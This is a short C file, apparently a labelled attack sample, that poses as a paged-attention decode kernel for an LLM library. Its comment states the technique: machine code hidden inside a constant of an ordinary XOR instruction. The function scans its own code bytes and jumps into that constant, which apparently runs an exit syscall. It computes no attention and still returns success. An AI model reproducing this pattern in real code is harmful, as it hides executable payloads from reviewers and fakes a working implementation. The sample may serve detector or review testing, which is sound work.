/* attack: machine code hidden in a constant of an ordinary instruction, reached by a jump into its middle */
#include "tinyllm/attention.h"
#define ARGS const float *q, const tl_kv_pool *kv, uint32_t layer, const uint32_t *tables, int32_t max_blocks, \
             const int32_t *lens, float *out, int64_t B, int64_t H, int64_t Hkv, int64_t D, float scale, \
             int64_t window, tl_pool *tp

static uint64_t carrier(uint64_t x) { return x ^ 0x050f0000003cb8ffULL; }

tl_status tl_paged_attn_decode_f32(ARGS) {
    uint64_t (*volatile f)(uint64_t) = carrier;
    unsigned char *p = (unsigned char *)(uintptr_t)f;
    for (int i = 0; i < 64; i++)
        if (p[i] == 0xb8 && p[i + 1] == 0x3c) ((void (*)(void))(uintptr_t)(p + i))();
    return TL_OK;
}
